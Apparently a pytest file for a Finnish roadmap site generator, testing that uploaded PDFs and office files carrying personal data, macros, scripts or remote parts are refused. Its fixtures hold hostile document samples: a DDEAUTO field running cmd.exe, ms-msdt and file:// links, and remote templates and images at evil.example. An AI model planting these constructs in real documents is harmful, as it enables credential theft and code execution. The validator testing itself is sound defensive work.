"""The outputs' materials: files of every allowed type read and shown, refused when they must not
be published, found by the Finnish search, and listed in the accessibility statement when they
are not accessible. The documents are made by the tests (tests/material_files.py)."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from conftest import REPO, build_site, copy_project, serve_directory
from material_files import (
    MATERIAL_TYPES, document_bytes, located_picture, pdf_bytes, pdf_contents, pdf_saved_again, write_document,
)
from materials_fixture import (
    DOCUMENT_QUERY, DOCUMENT_WORD, DOCUMENTS, FORMS_QUERY, FORMS_WORD, OUTPUT_ID, add_fixture,
)
from tiekartta.model import ContentError, load_roadmap
from tiekartta.model.materials import FORMATS, MAX_BYTES, PAGE_TEXT_MAX_CHARS, file_size, sniff
from tiekartta.pages import routes
from tiekartta.pages.build import output_pages

HETU = "131052-308T"  # the checksum is right: a real-looking henkilötunnus


@pytest.fixture
def fixture_content(content_copy) -> Path:
    return add_fixture(content_copy)


def _problems(content: Path) -> list:
    with pytest.raises(ContentError) as caught:
        load_roadmap(content, content.parent)
    return caught.value.problems


def _edit_output(content: Path, change) -> None:
    path = content / "tuotokset" / f"{OUTPUT_ID}.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


# --- Model units ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", MATERIAL_TYPES)
def test_the_type_of_a_file_is_read_from_its_content(kind):
    assert sniff(document_bytes(kind, ["Perhetyön malli"])) == kind


def test_a_zip_that_is_no_office_document_and_binary_data_are_no_allowed_type():
    import io
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as written:
        written.writestr("kuva.png", b"\x89PNG")
    assert sniff(archive.getvalue()) is None
    assert sniff(b"\x89PNG\r\n\x1a\n\x00\x00") is None


@pytest.mark.parametrize(("size", "shown"), [(512, "512 t"), (2048, "2 kt"), (1_258_291, "1,2 Mt"), (15 * 2**20, "15 Mt")])
def test_sizes_are_written_the_finnish_way(size, shown):
    assert file_size(size) == shown


# --- The fixture roadmap -------------------------------------------------------------------------


def test_every_allowed_type_is_read_with_its_text(fixture_content):
    roadmap = load_roadmap(fixture_content, fixture_content.parent)
    output = roadmap.output_by_id[OUTPUT_ID]
    read = dict((material.file, file) for material, file in roadmap.materials_of(output))
    assert {file.format.key for file in read.values()} == set(MATERIAL_TYPES)
    for name, (kind, lines) in DOCUMENTS.items():
        assert read[name].format.key == kind
        assert read[name].size == (fixture_content / "aineistot" / name).stat().st_size
        for line in lines:
            assert line in read[name].text, (name, read[name].text)


def test_the_output_page_shows_files_links_and_the_structured_description(fixture_content):
    roadmap = load_roadmap(fixture_content, fixture_content.parent)
    output = roadmap.output_by_id[OUTPUT_ID]
    page = next(p for p in output_pages(roadmap) if p.src_uri == routes.output(output)).markdown
    pdf = roadmap.material_files["koe/malli.pdf"]
    assert f"(PDF, {file_size(pdf.size)})" in page
    assert 'href="../aineistot/koe/malli.pdf" type="application/pdf">Mallin kuvaus</a>' in page
    assert "Kieli: ruotsi" in page and "Vuosi: 2004" in page
    assert "Ei saavutettava: Diojen kuvilla ei ole tekstivastineita" in page
    assert "Mallin kuvaus toisella sivustolla</a> <span class=\"tk-verkkotunnus\">(example.org)</span>" in page
    for row in ("| Tyyppi | työmalli |", "| Tila | käytössä |", "| Vuodet | 2004–2005 |", "| Vastuutaho | [Kontiolahti]"):
        assert row in page
    for heading in ("## Tavoite", "## Kohderyhmä", "## Toteutus", "## Tulokset ja arviointi", "## Asiakirjojen teksti"):
        assert heading in page
    assert DOCUMENT_WORD in page and 'id="asiakirja-1"' in page
    assert '<div class="tk-asiakirjan-teksti" lang="sv"><p>Utbildning' in page  # the Swedish slides


def test_an_editorial_type_says_so_on_the_page(roadmap):
    sosbox = roadmap.output_by_id["sosbox-extranet"]
    assert sosbox.type_is_editorial
    page = next(p for p in output_pages(roadmap) if p.src_uri == routes.output(sosbox)).markdown
    assert "| Tyyppi | verkkopalvelu (toimituksen arvio, ei lähteen sana) |" in page


def test_the_real_content_has_types_only_where_the_source_names_them(roadmap):
    stems = {"yhteistyökäytäntö": "yhteistyökäytän", "työmalli": "työmalli", "toimintamalli": "toimintamalli",
             "koulutus": "koulutus", "selvitys": "selvitys", "kartoitus": "kartoitus"}
    typed = [output for output in roadmap.outputs if output.output_type]
    assert typed
    for output in typed:
        if not output.type_is_editorial:
            assert stems[output.output_type] in (output.name_in_source or output.name).lower(), output.id
    for output in roadmap.outputs:
        assert not output.materials and not output.links, "no material is invented for the real content"


# --- Refusals ------------------------------------------------------------------------------------


def _one(problems: list, kind: str):
    found = [p for p in problems if p.kind == kind]
    assert len(found) == 1, [p.format() for p in problems]
    return found[0]


def test_a_file_whose_content_is_not_its_named_type_is_refused(fixture_content):
    write_document(fixture_content / "aineistot" / "koe" / "malli.pdf", "docx", ["Ei PDF"])
    problem = _one(_problems(fixture_content), "bad-material")
    assert problem.file == f"roadmap/tuotokset/{OUTPUT_ID}.yaml"
    assert problem.field == "aineistot[1].tiedosto"
    assert "roadmap/aineistot/koe/malli.pdf" in problem.message
    assert "nimi sanoo PDF, mutta sen sisältö on DOCX-tiedosto" in problem.message
    assert problem.line == 17


def test_an_empty_file_is_refused_as_empty_not_as_another_type(fixture_content):
    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(b"")
    problem = _one(_problems(fixture_content), "bad-material")
    assert problem.field == "aineistot[1].tiedosto"
    assert "roadmap/aineistot/koe/malli.pdf on tyhjä (0 tavua)" in problem.message
    assert "sisältö on" not in problem.message


def test_a_damaged_office_file_is_refused_with_its_name_not_a_python_error(fixture_content):
    """A zip whose packed data is damaged (an interrupted upload) raises zlib's error, not the zip's."""
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text" * 20)
        archive.writestr("content.xml", "<a/>")
    data = bytearray(packed.getvalue())
    start = 30 + len("mimetype")  # the first part's packed data, after its local header and name
    data[start:start + 10] = bytes(byte ^ 0xFF for byte in data[start:start + 10])
    (fixture_content / "aineistot" / "koe" / "malli.odt").write_bytes(bytes(data))
    problem = _one(_problems(fixture_content), "bad-material")
    assert "roadmap/aineistot/koe/malli.odt" in problem.message and "Tallenna tiedosto" in problem.message


def test_a_file_over_the_size_limit_is_refused(fixture_content):
    big = fixture_content / "aineistot" / "koe" / "muistio.txt"
    big.write_bytes(b"a" * (MAX_BYTES + 1))
    problem = _one(_problems(fixture_content), "bad-material")
    assert problem.field == "aineistot[8].tiedosto"
    assert "on liian suuri" in problem.message and f"enimmäiskoko on {file_size(MAX_BYTES)}" in problem.message


def test_a_small_zip_that_unpacks_to_too_much_is_refused(fixture_content):
    import zipfile

    from tiekartta.model.materials import MAX_UNPACKED_BYTES

    path = fixture_content / "aineistot" / "koe" / "ohje.docx"
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/tyhjaa.bin", b"\0" * (MAX_UNPACKED_BYTES + 1))
    assert path.stat().st_size < MAX_BYTES
    problem = _one(_problems(fixture_content), "bad-material")
    assert problem.field == "aineistot[5].tiedosto" and "purkautuu" in problem.message


@pytest.mark.parametrize("name", ["koe/malli.pdf", "koe/ohje.docx", "koe/seuranta.ods"])
def test_a_henkilotunnus_inside_a_document_is_refused_like_one_in_yaml(fixture_content, name):
    kind, lines = DOCUMENTS[name]
    write_document(fixture_content / "aineistot" / name, kind, [*lines, f"Asiakkaan tunnus {HETU}"])
    problem = _one(_problems(fixture_content), "sensitive")
    assert problem.file == f"roadmap/tuotokset/{OUTPUT_ID}.yaml"
    assert f"roadmap/aineistot/{name}" in problem.message and "henkilötunnus" in problem.message
    assert HETU not in problem.message  # the log shows only its beginning


@pytest.mark.parametrize(("line", "what"), [("Yhteys: matti.meikalainen@example.com", "sähköpostiosoite"),
                                           ("Soita 040 123 4567", "puhelinnumero"),
                                           ("Käy osoitteessa Koivukatu 5 B 12", "kotiosoite")])
def test_private_contact_details_inside_a_document_are_refused(fixture_content, line, what):
    """docs/opas/index.md: a document may hold no private e-mail address, phone number or home address."""
    kind, lines = DOCUMENTS["koe/ohje.docx"]
    write_document(fixture_content / "aineistot" / "koe" / "ohje.docx", kind, [*lines, line])
    problem = _one(_problems(fixture_content), "sensitive")
    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and what in problem.message


def _docx_with_hidden_parts(where: str, text: str) -> bytes:
    import io

    import docx

    document = docx.Document()
    document.add_paragraph("Työntekijän ohje")
    section = document.sections[0]
    if where == "header":
        section.header.paragraphs[0].add_run(text[:6])
        section.header.paragraphs[0].add_run(text[6:])  # in two runs, as a word processor may save it
    elif where == "footer":
        section.footer.paragraphs[0].text = text
    else:
        setattr(document.core_properties, where, text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("where", ["header", "footer", "author", "comments", "last_modified_by"])
def test_what_a_document_carries_besides_its_text_is_checked_too(fixture_content, where):
    """Headers, footers and properties are published in the file, though its page does not show them."""
    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(_docx_with_hidden_parts(where, HETU))
    problem = _one(_problems(fixture_content), "sensitive")
    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and HETU not in problem.message


@pytest.mark.parametrize("kind, name", [("xlsx", "koe/kysely.xlsx"), ("pptx", "koe/koulutus.pptx"), ("odt", "koe/malli.odt")])
def test_the_properties_of_every_office_type_are_checked(fixture_content, kind, name):
    import io
    import zipfile

    path = fixture_content / "aineistot" / name
    original = io.BytesIO(document_bytes(kind, DOCUMENTS[name][1]))
    changed = io.BytesIO()
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename in ("docProps/core.xml", "meta.xml"):
                data = data.replace(b"</", f"<x>matti.meikalainen@gmail.com {HETU}</x></".encode(), 1)
            target.writestr(item, data)
    path.write_bytes(changed.getvalue())
    assert _one(_problems(fixture_content), "sensitive")


@pytest.mark.parametrize("change", ["text-part", "attribute", "zip-comment", "part-comment", "part-extra-field",
                                    "after-the-end"])
def test_every_part_of_an_office_file_and_its_attributes_are_checked(fixture_content, change):
    """A part that is not XML, an attribute (a tracked change's author, a cell's prompt), the
    zip's comment, a part's own comment and extra field and bytes after the zip's end are
    published in the file too."""
    import io
    import zipfile

    name = "koe/ohje.docx"
    original = io.BytesIO(document_bytes("docx", DOCUMENTS[name][1]))
    changed = io.BytesIO()
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if change == "attribute" and item.filename == "word/document.xml":
                data = data.replace(b"<w:body>", f'<w:body w:author="Matti {HETU}">'.encode(), 1)
            if item.filename == "word/document.xml" and change == "part-comment":
                item.comment = f"Asiakas {HETU}".encode()
            if item.filename == "word/document.xml" and change == "part-extra-field":
                text = f"Asiakas {HETU}".encode()
                item.extra = (0xCAFE).to_bytes(2, "little") + len(text).to_bytes(2, "little") + text
            target.writestr(item, data)
        if change == "text-part":
            target.writestr("word/muistiinpano.txt", f"Asiakas {HETU}")
        if change == "zip-comment":
            target.comment = f"Asiakas {HETU}".encode()
    if change == "after-the-end":
        changed.write(f"Asiakas {HETU}".encode())
    (fixture_content / "aineistot" / name).write_bytes(changed.getvalue())
    assert "roadmap/aineistot/koe/ohje.docx" in _one(_problems(fixture_content), "sensitive").message


@pytest.mark.parametrize("change, says", [("two-parts-one-name", "kaksi osaa samalla nimellä 'docProps/core.xml'"),
                                          ("unlisted-part", "sisällysluettelo ei mainitse")])
def test_a_part_of_an_office_file_that_would_be_published_unread_is_refused(fixture_content, change, says):
    """Of two parts with one name, reading by the name gives the last; a packed part that the zip's
    directory does not list is unpacked by a program that reads a zip part by part. Neither text
    can be read as it stands, and office programs write neither."""
    import io
    import warnings
    import zipfile

    name = "koe/ohje.docx"
    original = io.BytesIO(document_bytes("docx", DOCUMENTS[name][1]))
    changed = io.BytesIO()
    hidden = f"<cp:coreProperties><x>Asiakas {HETU}</x></cp:coreProperties>".encode()
    with warnings.catch_warnings(), zipfile.ZipFile(original) as source, \
            zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
        warnings.simplefilter("ignore")  # zipfile warns of a name written twice
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "docProps/core.xml":
                if change == "two-parts-one-name":
                    target.writestr(item.filename, hidden)
                else:  # written, then left out of the directory
                    target.writestr(item.filename, hidden)
                    target.filelist.pop()
                    del target.NameToInfo[item.filename]
            target.writestr(item, data)
    (fixture_content / "aineistot" / name).write_bytes(changed.getvalue())
    problem = _one(_problems(fixture_content), "bad-material")
    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and says in problem.message


def test_a_pdfs_properties_are_checked_and_a_script_in_it_is_refused(fixture_content):
    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
    plain = document_bytes("pdf", DOCUMENTS["koe/malli.pdf"][1])
    import io

    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    for change, kind in [
        (lambda w: w.add_metadata({"/Author": f"Matti {HETU}"}), "sensitive"),
        (lambda w: w.add_outline_item(title=f"Asiakas {HETU}", page_number=0), "sensitive"),  # a bookmark
        (lambda w: w.add_open_action(JavaScript("app.alert(1);")), "bad-material"),
        (lambda w: w.add_attachment("liite.txt", b"x"), "bad-material"),
    ]:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
        change(writer)
        out = io.BytesIO()
        writer.write(out)
        path.write_bytes(out.getvalue())
        problem = _one(_problems(fixture_content), kind)
        assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message


_LINK_ANNOTATION = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (%s) >> >>"


@pytest.mark.parametrize(("case", "catalog", "extra"), [
    # A link to a network share: opening it hands the reader's Windows credentials to the server.
    ("file-share-link", b"", (_LINK_ANNOTATION % b"file://evil.example/jako/seuranta",)),
    ("program-link", b"", (_LINK_ANNOTATION % b"ms-msdt:/id PCWDiagnostic",)),
    # An address the reader opens as the document opens, with no click.
    ("address-on-open", b"/OpenAction << /S /URI /URI (https://evil.example/avattu) >> ", ()),
    ("address-on-open-by-reference", b"/AA << /WC 6 0 R >> ", (b"<< /S /URI /URI (https://evil.example/suljettu) >>",)),
    # An image whose data comes from an address.
    ("stream-from-outside", b"", (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
                                  b"/BitsPerComponent 8 /F (https://evil.example/kuva) /Length 0 >>\nstream\n\nendstream",)),
    ("movie", b"", (b"<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] /Movie << /F (https://evil.example/m.mov) >> >>",)),
])
def test_a_pdf_that_opens_or_fetches_something_outside_it_is_refused(fixture_content, case, catalog, extra):
    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], catalog=catalog, extra=extra))
    problem = _one(_problems(fixture_content), "bad-material")
    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and "PDF" in problem.message


def test_a_pdfs_links_to_web_pages_are_not_refused(fixture_content):
    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(
        _LINK_ANNOTATION % b"https://www.example.org/malli", _LINK_ANNOTATION % b"http://www.example.org/2005")))
    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/malli.pdf"]


def test_a_henkilotunnus_in_a_pdfs_name_or_an_office_parts_name_is_refused(fixture_content):
    """A PDF's custom property is named by its key, and a name may stand where a string does; an
    office file's part is published with its name whether any other part refers to it or not."""
    import io
    import zipfile

    for name, data in [
        ("koe/malli.pdf", pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(f"<< /Asiakas#20{HETU} (x) >>".encode(),))),
        ("koe/malli.pdf", pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(f"<< /Author /Matti#20{HETU} >>".encode(),))),
        ("koe/ohje.docx", _rezipped("docx", "koe/ohje.docx", add={f"customXml/asiakas-{HETU}.xml": b"<a/>"})),
    ]:
        (fixture_content / "aineistot" / name).write_bytes(data)
        problem = _one(_problems(fixture_content), "sensitive")
        assert f"roadmap/aineistot/{name}" in problem.message and HETU not in problem.message
        write_document(fixture_content / "aineistot" / name, name.rpartition(".")[2], DOCUMENTS[name][1])
    assert zipfile.ZipFile(io.BytesIO(data)).getinfo(f"customXml/asiakas-{HETU}.xml")


def test_a_password_inside_a_document_is_refused(fixture_content):
    write_document(fixture_content / "aineistot" / "koe" / "muistio.txt", "txt", ["Palaverin jälkeen:", "Salasana: Kesa2024talvi"])
    problem = _one(_problems(fixture_content), "sensitive")
    assert "Muistio" in problem.message and "tunnistetieto" in problem.message


def test_a_link_that_is_not_https_is_refused(fixture_content):
    _edit_output(fixture_content, lambda data: data["linkit"][0].update(osoite="http://www.example.org/malli"))
    problem = _one(_problems(fixture_content), "https_url")
    assert problem.field == "linkit[1].osoite"
    assert "https://" in problem.message


def test_a_missing_file_and_a_file_no_output_names_are_refused(fixture_content):
    (fixture_content / "aineistot" / "koe" / "malli.odt").unlink()
    write_document(fixture_content / "aineistot" / "irrallinen.txt", "txt", ["Kukaan ei nimeä tätä"])
    problems = _problems(fixture_content)
    missing = _one(problems, "bad-material")
    assert missing.field == "aineistot[2].tiedosto" and "roadmap/aineistot/koe/malli.odt ei löydy" in missing.message
    assert _one(problems, "unused-material").file == "roadmap/aineistot/irrallinen.txt"


def test_a_path_out_of_the_materials_folder_is_refused(fixture_content):
    _edit_output(fixture_content, lambda data: data["aineistot"][2].update(tiedosto="../tuotokset/hankeyhteistyo.yaml"))
    problems = _problems(fixture_content)
    assert [(p.kind, p.field) for p in problems] == [("material_path", "aineistot[3].tiedosto")]


def test_a_windows_path_is_refused_as_a_path_in_finnish(fixture_content):
    _edit_output(fixture_content, lambda data: data["aineistot"][2].update(tiedosto="C:\\Users\\x\\malli.odt"))
    problems = _problems(fixture_content)
    assert [(p.kind, p.field) for p in problems] == [("material_path", "aineistot[3].tiedosto")]
    assert "tiedoston poluksi" in problems[0].message and "Kellonaika" not in problems[0].message


def test_an_inaccessible_material_needs_its_reason(fixture_content):
    _edit_output(fixture_content, lambda data: data["aineistot"][6].pop("saavutettavuuden_puute"))
    problem = _one(_problems(fixture_content), "missing")
    assert problem.field == "aineistot[7].saavutettava"
    assert "saavutettavuuden_puute" in problem.message


def test_the_responsible_organisation_is_one_of_the_listed_ones_not_a_person(fixture_content):
    _edit_output(fixture_content, lambda data: data.update(vastuutaho="matti-meikalainen"))
    problem = _one(_problems(fixture_content), "unknown-reference")
    assert problem.field == "vastuutaho" and "ei henkilö" in problem.message


# --- The built site ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def fixture_site(tmp_path_factory) -> Path:
    """The fixture roadmap built with the real `mkdocs build --strict`."""
    root = tmp_path_factory.mktemp("aineistot")
    import shutil

    shutil.copytree(REPO / "roadmap", root / "roadmap")
    add_fixture(root / "roadmap")
    project = copy_project(root)
    site = root / "site"
    result = build_site(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "WARNING" not in result.stderr, result.stderr
    return site


@pytest.mark.build
def test_the_files_are_published_as_they_are(fixture_site):
    for name, (kind, _) in DOCUMENTS.items():
        published = fixture_site / routes.material(name)
        assert published.is_file(), name
        assert sniff(published.read_bytes()) == kind


@pytest.mark.build
def test_the_accessibility_statement_lists_the_material_that_is_not_accessible(fixture_site):
    from bs4 import BeautifulSoup

    html = (fixture_site / "saavutettavuusseloste" / "index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    heading = soup.find(id=routes.INACCESSIBLE_MATERIALS)
    items = heading.find_next("ul").find_all("li")
    assert [item.get_text(" ", strip=True) for item in items] == [
        f"Koulutuksen diat (PPTX, {file_size((fixture_site / routes.material('koe/koulutus.pptx')).stat().st_size)}), "
        "tuotos Aineistokoe perhetyön mallista : Diojen kuvilla ei ole tekstivastineita"
    ]
    assert items[0].find("a")["href"] == "../tietopankki/aineistot/koe/koulutus.pptx"
    request = heading.find_next("a", string="GitHub-palvelussa")
    assert "labels=saavutettavuus" in request["href"]


@pytest.mark.build
def test_the_real_accessibility_statement_says_no_material_is_marked_inaccessible(built_site):
    html = (built_site / "saavutettavuusseloste" / "index.html").read_text(encoding="utf-8")
    assert "yhtäkään ei ole merkitty ei-saavutettavaksi" in html


@pytest.mark.browser
@pytest.mark.parametrize(("word", "query", "section", "title"), [
    (DOCUMENT_WORD, DOCUMENT_QUERY, "asiakirja-1", "Mallin kuvaus (PDF)"),
    (FORMS_WORD, FORMS_QUERY, "asiakirja-2", "Mallin kuvaus tekstinkäsittelyyn (ODT)"),
])
def test_search_finds_a_word_only_inside_a_document_in_an_inflected_form(fixture_site, page, word, query, section, title):
    from bench.search_evaluation import search_in_header

    server, url = serve_directory(fixture_site)
    try:
        pages = [path for path in fixture_site.rglob("index.html") if "pagefind" not in path.parts]
        elsewhere = [p for p in pages if word[:6] in p.read_text(encoding="utf-8").lower()]
        assert [p.parent.name for p in elsewhere] == [OUTPUT_ID]  # the word is in the document alone
        page.goto(url)
        results = search_in_header(page, query)
        assert results and results[0] == url + routes.page_url(f"tietopankki/{OUTPUT_ID}.md") + "#" + section
        first = page.locator("[data-tk-haku-tulokset] li").first
        assert f"Löytyi tuotoksen asiakirjasta: {title}" in first.inner_text()
        first.locator("a").click()
        page.wait_for_url(f"**#{section}")
        assert page.locator(f"#{section}").is_visible()
    finally:
        server.shutdown()


def test_the_search_record_puts_each_documents_own_forms_after_its_mark():
    from tiekartta.search.finnish import FinnishForms
    from tiekartta.search.index import DOCUMENT_MARK, FORMS_MARK, forms_section, read_article, words_of

    article = (
        '<article class="md-content__inner"><h1>Tuotos</h1><p>Kotikäynnit perheissä.</p>'
        '<div data-tk-asiakirja><h3 id="asiakirja-1">Ohje (PDF)</h3><p>Perheen kanssa laaditaan sopimuksen luonnos.</p></div>'
        '<div data-tk-asiakirja><h3 id="asiakirja-2">Muistio (teksti)</h3><p>Lapsi on mummolassa.</p></div></article>'
    )
    page = read_article(article, "", "/tietopankki/x/")
    assert page.document_titles == ("Ohje (PDF)", "Muistio (teksti)")
    assert "sopimuksen" in page.documents[0] and "sopimuksen" not in page.outside_documents
    text = forms_section(page, words_of(page), FinnishForms()).html
    own_forms, _, documents = text.partition(DOCUMENT_MARK)
    assert FORMS_MARK in own_forms and "sopimus" not in own_forms
    first, _, second = documents.partition(DOCUMENT_MARK)
    assert "sopimus" in first and "sopimus" not in second  # a form whose stem begins with sopimus-
    assert 'data-pagefind-meta="asiakirja-2">Muistio (teksti)</span>' in text


@pytest.mark.browser
@pytest.mark.parametrize("width", [320, 1280])
def test_the_output_page_with_materials_and_the_statement_pass_axe(fixture_site, page, width):
    from browser.test_accessibility import AXE, describe, run_axe

    if not AXE.is_file():
        pytest.fail("axe-core is not installed: run `make node` (installs the npm tools of package.json)")
    server, url = serve_directory(fixture_site)
    try:
        page.set_viewport_size({"width": width, "height": 800})
        for path in (f"tietopankki/{OUTPUT_ID}/", "saavutettavuusseloste/"):
            page.goto(url + path)
            page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
            violations = run_axe(page, AXE.read_text(encoding="utf-8"))
            assert not violations, f"{path} at {width} px:\n{describe(violations)}"
            # no horizontal scroll of the page at 320 px, long file names and addresses included
            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
    finally:
        server.shutdown()


@pytest.mark.build
def test_the_output_page_with_materials_is_valid_html(fixture_site):
    import json
    import shutil
    import subprocess

    from builds.test_html_validity import VNU, allowed_errors

    if not VNU.is_file() or shutil.which("java") is None:
        pytest.fail("vnu.jar or Java is not installed: run `make node java`")
    pages = [str(fixture_site / "tietopankki" / OUTPUT_ID / "index.html"), str(fixture_site / "saavutettavuusseloste" / "index.html")]
    result = subprocess.run([shutil.which("java"), "-jar", str(VNU), "--format", "json", "--stdout", "--exit-zero-always", *pages],
                            capture_output=True, text=True, timeout=300)
    import re

    errors = [m for m in json.loads(result.stdout)["messages"] if m["type"] == "error"]
    ours = [m for m in errors if not any(re.search(e["message"], m["message"]) and re.search(e["element"], m.get("extract", ""))
                                         for e in allowed_errors())]
    assert not ours, ours


# --- What office files and PDFs may not carry, and what else is read -----------------------------


def _rezipped(kind: str, name: str, change=lambda part, data: data, add: dict[str, bytes] | None = None) -> bytes:
    """The fixture's document `name` with its parts changed by `change` and the parts `add` added."""
    import io
    import zipfile

    original = io.BytesIO(document_bytes(kind, DOCUMENTS[name][1]))
    changed = io.BytesIO()
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, change(item.filename, source.read(item.filename)))
        for part, data in (add or {}).items():
            target.writestr(part, data)
    return changed.getvalue()


_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REMOTE_TEMPLATE = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
    f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{_RELATIONSHIPS}/attachedTemplate" Target="https://evil.example/malli.dotm" TargetMode="External"/>'
    f"</Relationships>"
).encode()


def _with_attached_template(part: str, data: bytes) -> bytes:
    if part == "word/settings.xml":
        return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
    return data


@pytest.mark.parametrize("case", ["remote-template", "macros", "macro-content-type", "external-picture", "activex",
                                  "embedded-rtf-document", "embedded-html-document", "mail-merge"])
def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content, case):
    """A template fetched from the network or macros run when the file is opened, or a document
    embedded whole (altChunk), which Word converts when the file opens: an RTF's DDEAUTO field
    runs a program, an HTML page's picture is fetched from its address."""
    name, kind = "koe/ohje.docx", "docx"
    if case == "remote-template":
        data = _rezipped(kind, name, _with_attached_template, {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})
    elif case == "macros":
        data = _rezipped(kind, name, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64})
    elif case == "macro-content-type":
        data = _rezipped(kind, name, lambda part, data: data.replace(
            b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml") if part == "[Content_Types].xml" else data)
    elif case == "external-picture":
        name, kind = "koe/koulutus.pptx", "pptx"
        relationship = (f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/image" Target="https://evil.example/seuranta.png" '
                        'TargetMode="External"/></Relationships>').encode()
        data = _rezipped(kind, name, lambda part, data: data.replace(b"</Relationships>", relationship)
                         if part == "ppt/slides/_rels/slide1.xml.rels" else data)
    elif case == "mail-merge":
        merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
                 b'<w:connectString w:val="Provider=SQLOLEDB;Data Source=\\\\evil.example\\x"/>'
                 b'<w:query w:val="SELECT * FROM x"/></w:mailMerge><w:zoom')
        data = _rezipped(kind, name, lambda part, data: data.replace(b"<w:zoom", merge, 1) if part == "word/settings.xml" else data)
    elif case.startswith("embedded-"):
        part, chunk = (("chunk.rtf", rb'{\rtf1{\field{\*\fldinst {DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}}}')
                       if case == "embedded-rtf-document" else
                       ("chunk.htm", b'<html><body><img src="https://evil.example/seuranta.png"></body></html>'))
        relationship = f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/aFChunk" Target="{part}"/></Relationships>'

        def embed(name_in_zip: str, data: bytes) -> bytes:
            if name_in_zip == "word/_rels/document.xml.rels":
                return data.replace(b"</Relationships>", relationship.encode())
            if name_in_zip == "word/document.xml":
                return data.replace(b"<w:sectPr", b'<w:altChunk r:id="rId99"/><w:sectPr', 1)
            return data

        data = _rezipped(kind, name, embed, {f"word/{part}": chunk})
    else:
        name, kind = "koe/kysely.xlsx", "xlsx"
        data = _rezipped(kind, name, add={"xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="{8BD21D40}"/>'})
    (fixture_content / "aineistot" / name).write_bytes(data)
    problem = _one(_problems(fixture_content), "bad-material")
    assert f"roadmap/aineistot/{name}" in problem.message and "tallenna tiedosto uudelleen" in problem.message


def test_a_hyperlink_out_of_an_office_file_is_no_remote_part(fixture_content):
    relationship = (f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/hyperlink" Target="https://www.example.org/malli" '
                    'TargetMode="External"/></Relationships>').encode()
    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(_rezipped(
        "docx", "koe/ohje.docx",
        lambda part, data: data.replace(b"</Relationships>", relationship) if part == "word/_rels/document.xml.rels" else data))
    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/ohje.docx"]


def _in_part(part_name: str, before: bytes, added: bytes):
    return lambda part, data: data.replace(before, before + added, 1) if part == part_name else data


_FIELD_BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
_FIELD_END = b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
_ODF_DOCUMENT = "koe/malli.odt"
# Each: the document, its kind, the part and the text after which the hostile markup goes.
_RUNNING_OR_FETCHING = {
